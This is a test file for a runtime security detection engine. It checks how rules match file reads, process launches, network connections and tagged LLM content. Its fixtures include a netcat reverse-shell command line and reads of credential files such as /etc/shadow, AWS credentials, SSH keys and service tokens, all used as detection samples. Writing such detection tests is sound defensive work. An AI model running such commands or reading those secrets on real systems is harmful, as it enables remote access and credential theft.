/** Rule tests compiled into predicates: field access, globs, and each test operator matching and not. */
import { describe, expect, it } from 'vitest';
import { compileTest, fieldGetter, globToRegExp } from '../../../src/signals/match.ts';
import { runtimeEvent } from '../../helpers/events.ts';

describe('fieldGetter', () => {
  it('reads a top-level field and a field of a group, and undefined when the group is absent', () => {
    const e = runtimeEvent('file.read', { file: { path: '/etc/shadow', operation: 'read' } });
    expect(fieldGetter('layer')(e)).toBe('file');
    expect(fieldGetter('file.path')(e)).toBe('/etc/shadow');
    expect(fieldGetter('network.dstIp')(e)).toBeUndefined();
  });

  it('derives process.name from the binary, else from the first word of the command line, and process.parentName', () => {
    const withBinary = runtimeEvent('process.exec', {
      process: { key: 'k', binary: '/usr/bin/curl', commandLine: 'wget x', parentBinary: '/bin/bash' },
    });
    expect(fieldGetter('process.name')(withBinary)).toBe('curl');
    expect(fieldGetter('process.parentName')(withBinary)).toBe('bash');
    const commandOnly = runtimeEvent('process.exec', { process: { key: 'k', commandLine: 'nc -e /bin/sh 1.2.3.4' } });
    expect(fieldGetter('process.name')(commandOnly)).toBe('nc');
    expect(fieldGetter('process.parentName')(commandOnly)).toBeUndefined();
  });
});

describe('globToRegExp', () => {
  it('* stays within one path segment, ** crosses them, ? is one character', () => {
    expect(globToRegExp('/tmp/*').test('/tmp/x')).toBe(true);
    expect(globToRegExp('/tmp/*').test('/tmp/a/x')).toBe(false);
    expect(globToRegExp('/tmp/**').test('/tmp/a/b/c')).toBe(true);
    expect(globToRegExp('/etc/shadow?').test('/etc/shadow-')).toBe(true);
    expect(globToRegExp('/etc/shadow?').test('/etc/shadow')).toBe(false);
    expect(globToRegExp('/a?b').test('/a/b')).toBe(false);
  });

  it('**/ also matches no directory at all', () => {
    const re = globToRegExp('/**/.aws/credentials');
    expect(re.test('/home/app/.aws/credentials')).toBe(true);
    expect(re.test('/.aws/credentials')).toBe(true);
    expect(re.test('/home/app/.aws/credentials.bak')).toBe(false);
  });

  it('treats regular-expression characters literally and anchors the whole value', () => {
    expect(globToRegExp('AI.Azure_*').test('AIxAzure_Jailbreak')).toBe(false);
    expect(globToRegExp('AI.Azure_*').test('AI.Azure_Jailbreak')).toBe(true);
    expect(globToRegExp('a+(b)').test('a+(b)')).toBe(true);
    expect(globToRegExp('*.env').test('/app/.env')).toBe(false);
    expect(globToRegExp('*shell*', 'i').test('RUN_SHELL')).toBe(true);
  });
});

describe('compileTest', () => {
  const file = (path: string) => runtimeEvent('file.read', { file: { path, operation: 'read' } });
  const connect = (dstIp: string, dstPort = 443) => runtimeEvent('network.connect', { network: { dstIp, dstPort } });

  it('exists: present and non-empty, or absent', () => {
    const hasTool = compileTest({ field: 'trace.toolName', exists: true });
    const noTool = compileTest({ field: 'trace.toolName', exists: false });
    const withTool = runtimeEvent('tool.execute', { trace: { toolName: 'search_kb' } });
    const emptyTool = runtimeEvent('tool.execute', { trace: { toolName: '' } });
    expect([hasTool(withTool), hasTool(emptyTool), noTool(emptyTool), noTool(withTool)]).toEqual([
      true,
      false,
      true,
      false,
    ]);
  });

  it('equals compares strictly (a port number is not its string)', () => {
    expect(compileTest({ field: 'network.dstPort', equals: 443 })(connect('203.0.113.5'))).toBe(true);
    expect(compileTest({ field: 'network.dstPort', equals: '443' })(connect('203.0.113.5'))).toBe(false);
  });

  it('in: one of the values, or for a list field any of its items', () => {
    const shells = compileTest({ field: 'process.name', in: ['sh', 'bash'] });
    expect(shells(runtimeEvent('process.exec', { process: { key: 'k', binary: '/bin/bash' } }))).toBe(true);
    expect(shells(runtimeEvent('process.exec', { process: { key: 'k', binary: '/bin/zsh' } }))).toBe(false);
    const tagged = compileTest({ field: 'content.tags', in: ['injection-phrasing'] });
    const content = (tags: string[]) => runtimeEvent('llm.chat', { content: { sha256: 'x', length: 1, tags } });
    expect(tagged(content(['contains-url', 'injection-phrasing']))).toBe(true);
    expect(tagged(content(['contains-url']))).toBe(false);
  });

  it('prefix, suffix and glob match strings only', () => {
    expect(compileTest({ field: 'file.path', prefix: ['/var/run/secrets/'] })(file('/var/run/secrets/x/token'))).toBe(
      true,
    );
    expect(compileTest({ field: 'file.path', prefix: ['/var/run/secrets/'] })(file('/run/secrets/x'))).toBe(false);
    expect(compileTest({ field: 'file.path', suffix: ['.pub'] })(file('/root/.ssh/id_ed25519.pub'))).toBe(true);
    expect(compileTest({ field: 'file.path', suffix: ['.pub'] })(file('/root/.ssh/id_ed25519'))).toBe(false);
    expect(compileTest({ field: 'file.path', glob: ['/etc/shadow*'] })(file('/etc/shadow-'))).toBe(true);
    expect(compileTest({ field: 'network.dstPort', prefix: ['44'] })(connect('203.0.113.5'))).toBe(false);
  });

  it('regex: on a string, or on any string of a list', () => {
    const re = compileTest({ field: 'network.domain', regex: '\\.onion$' });
    expect(re(runtimeEvent('dns.query', { network: { domain: 'abc.onion' } }))).toBe(true);
    expect(re(runtimeEvent('dns.query', { network: { domain: 'onion.example' } }))).toBe(false);
    const tags = compileTest({ field: 'content.tags', regex: '^contains-' });
    expect(tags(runtimeEvent('llm.chat', { content: { sha256: 'x', length: 1, tags: ['contains-ip'] } }))).toBe(true);
  });

  it('cidr: inside an IPv4 range, or equal to an exact address', () => {
    const link = compileTest({ field: 'network.dstIp', cidr: ['169.254.0.0/16', 'fd00:ec2::254'] });
    expect(link(connect('169.254.169.254'))).toBe(true);
    expect(link(connect('169.255.0.1'))).toBe(false);
    expect(link(connect('fd00:ec2::254'))).toBe(true);
    expect(link(connect('fd00:ec2::253'))).toBe(false);
  });

  it('private: RFC 1918, loopback, link-local, CGNAT and ULA addresses, or the public rest', () => {
    const isPrivate = compileTest({ field: 'network.dstIp', private: true });
    const isPublic = compileTest({ field: 'network.dstIp', private: false });
    for (const ip of ['10.1.2.3', '172.16.0.1', '192.168.1.1', '127.0.0.1', '100.64.0.1', 'fd12::1', '::1'])
      expect(isPrivate(connect(ip)), ip).toBe(true);
    for (const ip of ['203.0.113.5', '172.32.0.1', '8.8.8.8', '2001:db8::1'])
      expect(isPublic(connect(ip)), ip).toBe(true);
    expect(isPublic(runtimeEvent('network.connect', { network: {} }))).toBe(false);
  });

  it('a test without an operator never matches', () => {
    expect(compileTest({ field: 'file.path' })(file('/etc/passwd'))).toBe(false);
  });
});
